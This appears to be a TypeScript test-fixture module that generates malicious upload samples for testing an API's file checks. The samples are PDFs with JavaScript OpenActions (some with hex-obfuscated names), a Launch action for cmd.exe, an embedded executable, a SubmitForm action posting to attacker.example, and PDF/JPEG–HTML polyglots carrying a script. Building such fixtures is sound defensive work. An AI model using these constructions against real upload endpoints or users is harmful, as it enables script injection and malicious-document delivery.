import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import sharp from 'sharp';

// Files an attacker would upload, and the real ones a user would, made at test time with the same
// libraries the api checks them with (nothing binary is committed).

const HTML_PAGE =
  '<html><body><script>fetch("/api/profile").then(r=>r.text()).then(alert)</script></body></html>';

/** A one-page CV as a PDF library writes it: a page with text. */
export async function realPdf(): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage([595, 842]);
  const font = await document.embedFont(StandardFonts.Helvetica);
  page.drawText('Nagy Gergo - Szoftverfejleszto', { x: 50, y: 780, size: 18, font });
  return Buffer.from(await document.save());
}

type Tamper = (document: PDFDocument) => void | Promise<void>;

/** A real PDF changed by `tamper` (an action, an attachment, a form), saved with or without object streams. */
async function tamperedPdf(tamper: Tamper, useObjectStreams = false): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage([595, 842]);
  await tamper(document);
  return Buffer.from(await document.save({ useObjectStreams }));
}

const javaScriptAction = (document: PDFDocument) =>
  document.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
const catalogEntry =
  (key: string, value: (document: PDFDocument) => Parameters<typeof document.catalog.set>[1]) =>
  (document: PDFDocument) =>
    document.catalog.set(PDFName.of(key), value(document));
const action = (fields: Record<string, string>) => (document: PDFDocument) =>
  document.context.obj({
    Type: 'Action',
    ...Object.fromEntries(
      Object.entries(fields).map(([key, value]) => [
        key,
        key === 'S' ? PDFName.of(value) : PDFString.of(value),
      ]),
    ),
  });

export const pdfWithJavaScriptOpenAction = (useObjectStreams = false) =>
  tamperedPdf(catalogEntry('OpenAction', javaScriptAction), useObjectStreams);

/** The OpenAction's `/JavaScript` written as `/J#61vaScript`, which readers decode to the same name. */
export async function pdfWithObfuscatedJavaScript(): Promise<Buffer> {
  const plain = (await pdfWithJavaScriptOpenAction()).toString('latin1');
  return Buffer.from(
    plain.replace('/JavaScript', '/J#61vaScript').replace('/JS', '/#4aS'),
    'latin1',
  );
}

/** Every other kind of active content the api refuses, one PDF each. */
export const activeContentPdfs: Record<string, () => Promise<Buffer>> = {
  'JavaScript in the Names tree': () =>
    tamperedPdf(
      catalogEntry('Names', (document) =>
        document.context.obj({
          JavaScript: document.context.obj({
            Names: [PDFHexString.fromText('start'), javaScriptAction(document)],
          }),
        }),
      ),
    ),
  'JavaScript in a page AA, in object streams': () =>
    tamperedPdf((document) => {
      document
        .getPage(0)
        .node.set(PDFName.of('AA'), document.context.obj({ O: javaScriptAction(document) }));
    }, true),
  'a Launch action': () =>
    tamperedPdf(catalogEntry('OpenAction', action({ S: 'Launch', F: 'cmd.exe' }))),
  'an embedded file': () =>
    tamperedPdf(async (document) => {
      await document.attach(Buffer.from('MZ not really'), 'setup.exe', {
        mimeType: 'application/octet-stream',
      });
    }),
  'an XFA form': () =>
    tamperedPdf(
      catalogEntry('AcroForm', (document) =>
        document.context.obj({ Fields: [], XFA: PDFString.of('<xdp:xdp/>') }),
      ),
    ),
  'a SubmitForm action': () =>
    tamperedPdf(
      catalogEntry('OpenAction', action({ S: 'SubmitForm', F: 'https://attacker.example/x' })),
    ),
  'an ImportData action': () =>
    tamperedPdf(catalogEntry('OpenAction', action({ S: 'ImportData', F: 'data.fdf' }))),
  'RichMedia content': () =>
    tamperedPdf(
      catalogEntry('OpenAction', (document) =>
        document.context.obj({ Type: 'RichMedia', S: PDFName.of('RichMediaExecute') }),
      ),
    ),
};

/** `%PDF-` followed by an HTML page: a browser that sniffs renders the page and runs its script. */
export const pdfHeaderHtml = () => Buffer.from(`%PDF-1.7\n${HTML_PAGE}\n%%EOF\n`, 'latin1');

/** A real, parsable PDF with an HTML page hidden in a comment line right after its header. */
export async function pdfWithHtmlComment(): Promise<Buffer> {
  const text = (await realPdf()).toString('latin1');
  return Buffer.from(text.replace(/^(%PDF-[^\n]*\n)/, `$1%${HTML_PAGE}\n`), 'latin1');
}

/** A real PDF with an HTML page appended after its %%EOF. */
export const pdfWithHtmlAfterEof = async () =>
  Buffer.concat([await realPdf(), Buffer.from(HTML_PAGE)]);

/** A JPEG that is a JPEG only in its first bytes (SOI and the JFIF header): the rest is HTML. */
export async function jpegHeaderHtml(): Promise<Buffer> {
  const jpeg = await sharp({
    create: { width: 8, height: 8, channels: 3, background: '#c00' },
  })
    .jpeg()
    .toBuffer();
  return Buffer.concat([jpeg.subarray(0, 20), Buffer.from(HTML_PAGE)]);
}

/**
 * A 40 × 20 JPEG camera photo: EXIF orientation 6 (shown turned a quarter right, so 20 × 40
 * upright) and an EXIF text a stored photo must not keep.
 */
export const cameraJpeg = () =>
  sharp({ create: { width: 40, height: 20, channels: 3, background: '#2a7' } })
    .jpeg()
    .withExif({ IFD0: { Copyright: 'Nagy Gergő', Artist: 'Budapest, Andrássy út 1.' } })
    .withMetadata({ orientation: 6 })
    .toBuffer();

/** A small PNG with transparency. */
export const transparentPng = () =>
  sharp({ create: { width: 16, height: 16, channels: 4, background: '#00f8' } })
    .png()
    .toBuffer();
